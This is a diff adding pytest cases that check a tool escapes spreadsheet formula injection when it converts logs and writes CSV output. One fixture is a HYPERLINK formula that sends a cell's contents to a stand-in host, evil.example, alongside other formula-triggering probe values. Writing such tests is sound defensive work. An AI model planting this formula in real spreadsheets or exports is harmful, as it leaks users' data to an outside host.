@@ -447,3 +447,35 @@ def test_shares_beside_undecided_points_are_bounds_on_the_safe_side(capsys) -> N
     assert (shares["YES"], shares["NO"], shares["UNKNOWN"]) == (">= 12 %", ">= 25 %", ">= 2 %")
     assert shares["UNDECIDED"].startswith("60 %")
     assert all(len(line) <= 80 for line in out.splitlines())
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+
+
+@pytest.mark.parametrize("ids", [FORMULA, "@SUM(1+1)", "+1", "-1", "'=1"])
+def test_an_id_that_a_spreadsheet_would_run_is_written_as_log_convert_writes_it(ids, capsys) -> None:
+    """Both as cell and as name of its column; the points' own columns may be such, too."""
+    log = QueryLog(FEATURES, L1)
+    log.add_label([1.0, 2.0, 3.0], 1, client=ids)
+    log.save("clients.jsonl")
+    assert run(["log", "convert", "clients.jsonl", "clients.csv"]) == 0
+    with Path("clients.csv").open(newline="") as file:
+        (escaped,) = [row["client"] for row in csv.DictReader(file)]
+    assert escaped.startswith("'")
+    with Path("points.csv").open("w", newline="") as file:
+        csv.writer(file).writerows([["income", ids, "age", "debts"], [1.0, ids, 2.0, 3.0]])
+    assert run(["certify", "log.jsonl", "points.csv", "-o", "verdicts.csv"]) == 0
+    (row,) = verdicts_of()
+    assert row == {"row": "0", escaped: escaped, "verdict": row["verdict"]}
+
+
+def test_features_that_a_spreadsheet_would_run_can_be_proved_and_verified(capsys) -> None:
+    names = ["=income", "-age", "debts"]
+    Path("model.json").write_text(json.dumps({"features": names, "coefficients": [1.0, 0.5, -1.5], "intercept": -0.25}))
+    with Path("cases.csv").open("w", newline="") as file:
+        csv.writer(file).writerows([names, *np.random.default_rng(0).normal(size=(60, 3)).round(3).tolist()])
+    options = ["--service", "l1", "--orders", "2", "--maps", "0", "--no-compare", "--no-defences"]
+    assert run(["audit", "model.json", "--data", "cases.csv", *options, "--proofs", "shown"]) == 0
+    for path in Path("shown").glob("*.cases.csv"):
+        assert path.read_text().splitlines()[0] == "'=income,'-age,debts"
+    assert run(["verify", "shown"]) == 0
